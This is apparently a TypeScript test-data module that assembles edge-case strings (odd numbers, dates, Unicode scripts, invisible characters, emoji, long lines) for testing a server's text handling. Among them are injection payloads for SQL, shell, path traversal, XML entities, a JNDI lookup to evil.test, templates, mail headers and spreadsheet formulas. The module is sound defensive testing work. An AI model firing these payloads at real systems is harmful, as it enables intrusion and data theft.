import { HOSTILE_TEXTS, UNUSUAL_TEXTS } from './hostile-texts.ts';

/** Words that programs may interpret as a value, a key or an end marker. */
const WORDS = [
  'undefined null nil None NULL (null) true false TRUE False NaN Infinity -Infinity yes no on off',
  '__proto__ constructor prototype toString valueOf hasOwnProperty __defineGetter__ then length name id',
  '0 -0 00 007 0x1F 0b101 0o17 1e309 -1e309 1e-400 1_000 1,000.50 1.000,50 1 000 ½ ٠١٢٣ ۴۵۶ १२३ ๑๒๓ 一二三 Ⅻ ①',
  '9007199254740993 2147483648 -2147483649 4294967296 18446744073709551616 0.1 .5 5. +7 --7 1/0 1%0 12:60 24:00',
  '1970-01-01 2038-01-19 9999-12-31 31/02/2026 2026-W53 P1Y2M 2026-11-25T25:61:61Z Feb-30 now today',
  'CON PRN AUX NUL COM1 LPT1 .htaccess .env id_rsa index.html wp-login.php robots.txt ~ . .. ... // \\\\',
].flatMap((line) => line.split(' '));

/** Texts that databases, shells, templates, logs, mails and spreadsheets could execute. */
const CODE = [
  [
    "' or 1=1 --",
    "'; drop table orders; --",
    '" or ""="',
    "1' union select pin_hash from users --",
    '%27%20or%201%3D1',
    "\\'; --",
  ],
  ["E'\\\\x41'", '$$ select 1 $$', ':name $1 ?', "to_tsquery('a & b')", '%_%', '[[:alpha:]]*', "like '%' escape '\\'"],
  [
    '$(reboot)',
    '`id`',
    '; ls -la',
    '| cat /etc/passwd',
    '&& true',
    '> /dev/null',
    '\\n\\r\\t\\0',
    '%0d%0aSet-Cookie: a=b',
    '%00',
    '%s%n%x',
  ],
  [
    '../../../etc/passwd',
    '..\\..\\windows',
    'file:///etc/passwd',
    'data:text/html,x',
    'http://127.0.0.1:8080/',
    '//evil.test',
    'C:\\nul',
  ],
  [
    '${jndi:ldap://evil.test/a}',
    '#{7*7}',
    '{{7*7}}',
    '<%= 7*7 %>',
    '{% raw %}',
    '[[${7*7}]]',
    '@{x}',
    '{0}',
    '%(name)s',
    '$t(key)',
    '{{- name}}',
  ],
  [
    '<?xml version="1.0"?>',
    '<!ENTITY x SYSTEM "file:///etc/passwd">',
    '<?php echo 1; ?>',
    '<a href="x">',
    '<b/>',
    '<style>*{}</style>',
  ],
  [
    'Bcc: eve@evil.test',
    'Subject: x',
    '=?utf-8?B?QQ==?=',
    'eve@evil.test, bob@evil.test',
    '"a" <a@b.test>',
    '-- ',
    '.',
    'QUIT',
    'From me to you',
  ],
  [
    '=1+1',
    '=cmd|"/c calc"!A1',
    '@SUM(1,1)',
    '+1',
    '-1',
    '%1',
    '|1',
    ';1',
    '"1"',
    "'1",
    '=A1&"x"',
    '==1',
    ' =1',
    '\u00A0=1',
    '＝1',
    '＋1',
    '－1',
    '＠1',
  ],
  [
    '{"a":1}',
    '[1]',
    '{"$ne":null}',
    '{"__proto__":{}}',
    '---',
    '- a',
    'a: b',
    '!!js/function',
    '&a *a',
    '# a',
    '*)(uid=*',
    ')(|(cn=*',
  ],
  ['(a+)+$', '[', '(', '{', '\\', '?', '*', '^', '|', '/', '&', '#', '%', ';', ',', '"', "'", '`', '<', '>', '“”', '«»', '‹›'],
].flat();

/** The first letters of writing systems. */
const SCRIPTS = [
  0x0100, 0x0180, 0x0250, 0x0391, 0x0400, 0x0531, 0x05d0, 0x0621, 0x0671, 0x0710, 0x0780, 0x07ca, 0x0800, 0x0905, 0x0985, 0x0a05,
  0x0a85, 0x0b05, 0x0b85, 0x0c05, 0x0c85, 0x0d05, 0x0d85, 0x0e01, 0x0e81, 0x0f40, 0x1000, 0x10d0, 0x1100, 0x1200, 0x13a0, 0x1401,
  0x1681, 0x16a0, 0x1780, 0x1820, 0x1950, 0x1a00, 0x1b05, 0x1c00, 0x1c5a, 0x1e00, 0x1f00, 0x2c00, 0x2c80, 0x2d30, 0x3041, 0x30a1,
  0x3105, 0x3400, 0x4e00, 0xa000, 0xa4d0, 0xa500, 0xa6a0, 0xa722, 0xa840, 0xa984, 0xaa00, 0xabc0, 0xac00, 0xf900, 0xfb50, 0xff21,
  0x10000, 0x10280, 0x10330, 0x10400, 0x10900, 0x12000, 0x13000, 0x1d400, 0x1e900, 0x20000,
].map((first) => Array.from({ length: 5 }, (_, at) => String.fromCodePoint(first + at)).join(''));

/** Spaces and invisible characters, within a word and between two words. */
const INVISIBLE = [
  0x09, 0x0a, 0x0d, 0x1b, 0x7f, 0x85, 0xa0, 0xad, 0x34f, 0x61c, 0x115f, 0x17b4, 0x180e, 0x2000, 0x2003, 0x2007, 0x2009, 0x200a,
  0x200b, 0x200c, 0x200d, 0x200e, 0x200f, 0x2028, 0x2029, 0x202a, 0x202b, 0x202d, 0x202e, 0x202f, 0x205f, 0x2060, 0x2066, 0x2067,
  0x2068, 0x3000, 0x3164, 0xfeff, 0xfff9, 0xfffc, 0xfffd, 0xe000, 0xe0041, 0x10fffd,
].flatMap((code) => ['Ada{}Obi', 'Ada {} Obi'].map((text) => text.replace('{}', String.fromCodePoint(code))));

/** Letters with combining marks that a Unicode normal form composes, reorders or keeps. */
const MARKS = [
  0x300, 0x301, 0x302, 0x303, 0x308, 0x30a, 0x30c, 0x323, 0x327, 0x328, 0x335, 0x345, 0x3099, 0x5b0, 0x64b, 0x93c,
].flatMap((mark) =>
  ['Ae', 'oU'].map((letters) => `${[...letters].join(String.fromCodePoint(mark))}${String.fromCodePoint(mark)}`),
);
const FORMS = ['Å Å Å', 'ﬁ fi', 'Ω Ω', 'ǅ', 'ß ẞ ss', 'İ i ı I', 'ς σ', '각 각', 'q̣̇ q̣̇', 'K K', '…', '²', '㎏', '℡', 'ª', 'ﷺ'];

const PICTURES = [
  '👍 👍🏻 👍🏿 🤷‍♀️ 👩🏽‍🚀 🏳️‍🌈 👨‍👩‍👧‍👦 ❤️ ❤ ☺︎ #️⃣ 0️⃣ 🇬🇭🇳🇬 🇬 🏴󠁧󠁢󠁳󠁣󠁴󠁿 🫶🏾 🧑‍🤝‍🧑 💸 🎁 📱 🏦 ✅ ❌ ⚠️ ☎ € ₵ ₦ ₹ ﷼ 𝟘 𝕂 𝓚 🅺 🄺 ⓚ K',
  '→ ← ↔ ⇒ ⌘ ⏎ █ ░ ● ◆ ★ ✓ ✗ ∞ ≠ ≤ √ ∑ ∂ µ ° ′ ″ № § ¶ † ‡ • ‰ ‱ ‽ ⸮ ؟ ، 、 。 「」 ～',
].flatMap((line) => line.split(' '));

const LONG = [
  'W'.repeat(80),
  'i'.repeat(80),
  'ﷺ'.repeat(40),
  '👩‍👩‍👧‍👦'.repeat(7),
  `${'a '.repeat(39)}a`,
  'e\u0301'.repeat(40),
  '-'.repeat(80),
  '.'.repeat(80),
];

/** Lines that programs often handle wrongly. The server refuses those that its databases cannot store. */
const LINES = new Set([
  ...HOSTILE_TEXTS,
  ...UNUSUAL_TEXTS,
  ...WORDS,
  ...CODE,
  ...SCRIPTS,
  ...INVISIBLE,
  ...MARKS,
  ...FORMS,
  ...PICTURES,
  ...LONG,
]);
const isStorable = (text: string): boolean => text.isWellFormed() && !text.includes('\0') && !text.startsWith('\uFEFF');

export const TEXT_LINES: readonly string[] = [...LINES].filter(isStorable);
/** Lines that the server refuses instead of changing them. */
export const REFUSED_LINES: readonly string[] = ['a\0b', '\uD800a', '\uFEFFa', ...[...LINES].filter((text) => !isStorable(text))];

/** Joins the lines into texts of at most `max` characters. */
export function textsOf(lines: readonly string[], max: number): string[] {
  const texts: string[] = [];
  for (const line of lines) {
    const last = texts.at(-1);
    if (last === undefined || last.length + 3 + line.length > max) texts.push(line);
    else texts[texts.length - 1] = `${last} | ${line}`;
  }
  return texts;
}
